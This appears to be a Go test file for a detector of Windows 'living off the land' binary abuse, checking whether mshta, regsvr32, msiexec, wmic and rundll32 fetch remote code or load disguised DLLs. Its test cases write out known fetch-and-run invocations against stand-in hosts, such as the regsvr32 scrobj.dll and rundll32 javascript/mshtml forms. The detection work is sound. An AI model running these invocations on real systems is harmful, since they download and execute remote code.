package lolbin

import "testing"

// TestRemote: each signed binary given another machine's address is a
// download run; given a file of this machine, or another program, it is
// not.
func TestRemote(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"mshta", []string{"https://x.example/a.hta"}, "https://x.example/a.hta"},
		{`C:\Windows\System32\MSHTA.EXE`, []string{`\\203.0.113.5\s\a.hta`}, `\\203.0.113.5\s\a.hta`},
		{"regsvr32", []string{"/s", "/n", "/u", "/i:http://x.example/f.sct", "scrobj.dll"}, "http://x.example/f.sct"},
		{"msiexec.exe", []string{"/q", "/i", "https://x.example/p.msi"}, "https://x.example/p.msi"},
		{"wmic", []string{"os", "get", `/format:"https://x.example/s.xsl"`}, "https://x.example/s.xsl"},
		{"rundll32.exe", []string{`javascript:"\..\mshtml,RunHTMLApplication";document.write();GetObject("script:https://x.example/r")`}, "https://x.example/r"},
		{"mshta", []string{"help.hta"}, ""},
		{"msiexec", []string{"/i", "dist/app.msi", "/qn"}, ""},
		{"regsvr32", []string{"/s", "build/x64/plugin.dll"}, ""},
		{"wmic", []string{"os", "get", "/format:list"}, ""},
		{"curl", []string{"https://x.example/a"}, ""},
	} {
		got, ok := Remote(tc.name, tc.args)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("Remote(%s %v) = %q %v, want %q", tc.name, tc.args, got, ok, tc.want)
		}
		if ok && !Named(tc.name) {
			t.Errorf("Named(%s) false for a program Remote reads", tc.name)
		}
	}
}

// TestDisguised: rundll32 and regsvr32 given a file whose extension no
// library has; Windows' own libraries, named with or without .dll, and
// the skill's DLLs are not.
func TestDisguised(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"rundll32", []string{`x64\Debug\Browse.VC.db,ENGINE_get_RAND`, "7am1"}, `x64\Debug\Browse.VC.db`},
		{"RUNDLL32.EXE", []string{`"C:\Users\Public\thumbs.dat",Start`}, `C:\Users\Public\thumbs.dat`},
		{"regsvr32", []string{"/s", "/n", "update.tmp"}, "update.tmp"},
		{"rundll32", []string{"shell32,Control_RunDLL", "desk.cpl"}, ""},
		{"rundll32", []string{"printui.dll,PrintUIEntry", "/il"}, ""},
		{"regsvr32", []string{"/s", "build/x64/shellext.dll"}, ""},
		{"rundll32", []string{`javascript:"\..\mshtml,RunHTMLApplication"`}, ""},
		{"mshta", []string{"a.db"}, ""},
	} {
		got, ok := Disguised(tc.name, tc.args)
		if ok != (tc.want != "") || ok && got != tc.want {
			t.Errorf("Disguised(%s %v) = %q %v, want %q", tc.name, tc.args, got, ok, tc.want)
		}
	}
}
